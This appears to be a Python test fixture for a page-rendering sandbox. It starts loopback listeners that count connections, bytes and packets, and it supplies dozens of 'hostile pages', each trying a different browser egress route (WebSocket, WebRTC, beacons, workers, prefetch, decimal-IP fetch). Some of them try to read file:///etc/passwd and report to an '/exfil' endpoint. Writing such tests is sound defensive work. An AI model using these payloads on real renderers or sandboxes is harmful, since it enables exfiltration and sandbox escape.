"""Loopback listeners that count every connection, byte and packet a rendered page sends them, and the
hostile pages that try to reach them (issue 15). Real sockets: an HTTP server that answers (so a page that
got through could go on), a TCP listener that WebSockets are pointed at, a UDP socket for STUN/QUIC."""

from __future__ import annotations

import socket
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer


@dataclass
class Traffic:
    """What reached the listeners: connections (TCP accepts), bytes and UDP packets, with the first lines."""

    connections: int = 0
    bytes: int = 0
    packets: int = 0
    seen: list[str] = field(default_factory=list)
    lock: threading.Lock = field(default_factory=threading.Lock)

    def note(self, what: str, size: int, *, connection: bool = False, packet: bool = False) -> None:
        with self.lock:
            self.connections += connection
            self.packets += packet
            self.bytes += size
            if len(self.seen) < 50:
                self.seen.append(what)

    @property
    def total(self) -> int:
        return self.connections + self.bytes + self.packets


@dataclass
class Ports:
    http: int
    ws: int
    udp: int


class _Handler(BaseHTTPRequestHandler):
    traffic: Traffic

    def do_GET(self) -> None:
        self.traffic.note(f"http GET {self.path}", len(self.requestline))
        body = b"<html><body><script>fetch('/second-request')</script>reached</body></html>"
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    do_POST = do_GET

    def log_message(self, *args: object) -> None:
        pass


class _CountingServer(ThreadingHTTPServer):
    traffic: Traffic
    daemon_threads = True

    def get_request(self):  # type: ignore[no-untyped-def]
        request = super().get_request()
        self.traffic.note(f"http connection from {request[1]}", 0, connection=True)
        return request


def _tcp_loop(server: socket.socket, traffic: Traffic, stop: threading.Event) -> None:
    server.settimeout(0.2)
    while not stop.is_set():
        try:
            conn, peer = server.accept()
        except (TimeoutError, OSError):
            continue
        traffic.note(f"tcp connection from {peer}", 0, connection=True)
        conn.settimeout(1.0)
        try:
            data = conn.recv(4096)
            if data:
                traffic.note(f"tcp bytes: {data[:60]!r}", len(data))
        except OSError:
            pass
        finally:
            conn.close()


def _udp_loop(sock: socket.socket, traffic: Traffic, stop: threading.Event) -> None:
    sock.settimeout(0.2)
    while not stop.is_set():
        try:
            data, peer = sock.recvfrom(65536)
        except (TimeoutError, OSError):
            continue
        traffic.note(f"udp packet from {peer}: {data[:20]!r}", len(data), packet=True)


@contextmanager
def listeners() -> Iterator[tuple[Ports, Traffic]]:
    """HTTP, TCP (for WebSockets) and UDP listeners on 127.0.0.1, counting into one :class:`Traffic`."""
    traffic = Traffic()
    stop = threading.Event()
    _Handler.traffic = traffic
    http = _CountingServer(("127.0.0.1", 0), _Handler)
    http.traffic = traffic
    tcp = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    tcp.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    tcp.bind(("127.0.0.1", 0))
    tcp.listen(16)
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.bind(("127.0.0.1", 0))
    threads = [
        threading.Thread(target=http.serve_forever, kwargs={"poll_interval": 0.1}, daemon=True),
        threading.Thread(target=_tcp_loop, args=(tcp, traffic, stop), daemon=True),
        threading.Thread(target=_udp_loop, args=(udp, traffic, stop), daemon=True),
    ]
    for thread in threads:
        thread.start()
    try:
        yield Ports(http.server_address[1], tcp.getsockname()[1], udp.getsockname()[1]), traffic
    finally:
        stop.set()
        http.shutdown()
        http.server_close()
        for thread in threads:
            thread.join(timeout=5)
        tcp.close()
        udp.close()


def _page(body: str, head: str = "") -> str:
    return f"<html><head>{head}</head><body><p>hostile page</p>{body}</body></html>"


def hostile_pages(ports: Ports) -> dict[str, str]:
    """Every way out we know of, each as its own page (name -> HTML). The issue's 17 and more."""
    http = f"http://127.0.0.1:{ports.http}"
    ws = f"ws://127.0.0.1:{ports.ws}"
    udp = ports.udp
    blob_fetch = f"<script>fetch('{http}/blob-popup-fetch')</script>"
    blob_files = (
        "<script>"
        "fetch('file:///etc/passwd').catch(e => fetch('" + http + "/exfil-fetch-err?e=' + encodeURIComponent(e)));"
        "var x = new XMLHttpRequest(); x.onerror = () => fetch('" + http + "/exfil-xhr-err');"
        "try { x.open('GET', 'file:///etc/passwd'); x.send(); } catch (e) {}"
        "fetch('" + http + "/popup-origin?o=' + encodeURIComponent(location.origin));"
        "</script>"
    )
    return {
        "window_open": f"<script>window.open('{http}/popup')</script>",
        "window_open_blob_fetch": "<script>window.open(URL.createObjectURL(new Blob("
        f"[{blob_fetch!r}], {{type: 'text/html'}})))</script>",
        "window_open_blob_files": "<script>window.open(URL.createObjectURL(new Blob("
        f"[{blob_files!r}], {{type: 'text/html'}})))</script>",
        "websocket": f"<script>new WebSocket('{ws}/socket')</script>",
        "websocket_to_http": f"<script>new WebSocket('ws://127.0.0.1:{ports.http}/socket')</script>",
        "webrtc_stun": "<script>var pc = new RTCPeerConnection({iceServers: [{urls: "
        f"'stun:127.0.0.1:{udp}'}}]}}); pc.createDataChannel('x');"
        "pc.createOffer().then(o => pc.setLocalDescription(o));</script>",
        "webrtc_turn_tcp": "<script>var pc = new RTCPeerConnection({iceServers: [{urls: "
        f"'turn:127.0.0.1:{ports.ws}?transport=tcp', username: 'u', credential: 'p'}}]}});"
        "pc.createDataChannel('x'); pc.createOffer().then(o => pc.setLocalDescription(o));</script>",
        "form_submit": f'<form id="f" action="{http}/form" method="post"><input name="a" value="b"></form>'
        "<script>document.getElementById('f').submit()</script>",
        "meta_refresh": _page("", f'<meta http-equiv="refresh" content="0; url={http}/refresh">'),
        "location_assign": f"<script>location = '{http}/location'</script>",
        "iframe": f'<iframe src="{http}/iframe"></iframe>',
        "img": f'<img src="{http}/img.png">',
        "fetch": f"<script>fetch('{http}/fetch')</script>",
        "css_url": f'<div style="background: url({http}/bg.png); width: 10px; height: 10px"></div>',
        "event_source": f"<script>new EventSource('{http}/events')</script>",
        "send_beacon": f"<script>navigator.sendBeacon('{http}/beacon', 'x')</script>",
        "worker": "<script>new Worker(URL.createObjectURL(new Blob(["
        f"\"fetch('{http}/worker'); new WebSocket('{ws}/worker-ws')\"])))</script>",
        "service_worker": "<script>navigator.serviceWorker && navigator.serviceWorker.register('sw.js')</script>",
        # beyond the list
        "preconnect": _page(
            "",
            f'<link rel="preconnect" href="{http}"><link rel="dns-prefetch" href="{http}">'
            f'<link rel="prefetch" href="{http}/prefetch"><link rel="preload" as="image" href="{http}/preload">',
        ),
        "script_src": f'<script src="{http}/script.js"></script>',
        "stylesheet_import": f"<style>@import url('{http}/import.css');</style>",
        "font_face": f"<style>@font-face {{font-family: x; src: url('{http}/font.woff')}}</style>"
        '<p style="font-family: x">font</p>',
        "xhr": f"<script>var r = new XMLHttpRequest(); r.open('GET', '{http}/xhr'); r.send()</script>",
        "object_embed": f'<object data="{http}/object"></object><embed src="{http}/embed">',
        "video_audio": f'<video src="{http}/v.mp4" autoplay></video><audio src="{http}/a.mp3" autoplay></audio>',
        "anchor_ping_click": f'<a id="a" href="{http}/anchor" ping="{http}/ping">x</a>'
        "<script>document.getElementById('a').click()</script>",
        "iframe_srcdoc_open": "<iframe srcdoc=\"<script>window.top.open('" + http + "/from-iframe');"
        "fetch('" + http + "/srcdoc-fetch')</script>\"></iframe>",
        "webtransport_quic": f"<script>try {{ new WebTransport('https://127.0.0.1:{udp}/wt') }} catch (e) {{}}"
        "</script>",
        "late_location": f"<script>setTimeout(() => location.href = '{http}/late', 50)</script>",
        "http_ip_other_form": f"<script>fetch('http://2130706433:{ports.http}/decimal-ip')</script>",
        "speculation_rules": '<script type="speculationrules">{"prefetch": [{"source": "list", "urls": '
        f'["{http}/speculative"]}}], "prerender": [{{"source": "list", "urls": ["{http}/prerender"]}}]}}</script>',
        "shared_worker": "<script>new SharedWorker(URL.createObjectURL(new Blob(["
        f"\"fetch('{http}/shared-worker'); new WebSocket('{ws}/shared-worker-ws')\"])))</script>",
        "keepalive_on_unload": f"<script>onpagehide = () => fetch('{http}/keepalive', {{keepalive: true}});"
        f"setTimeout(() => location.reload(), 20)</script>",
    }


def hostile_html(ports: Ports) -> dict[str, str]:
    """:func:`hostile_pages` as whole documents."""
    return {name: html if html.startswith("<html>") else _page(html) for name, html in hostile_pages(ports).items()}
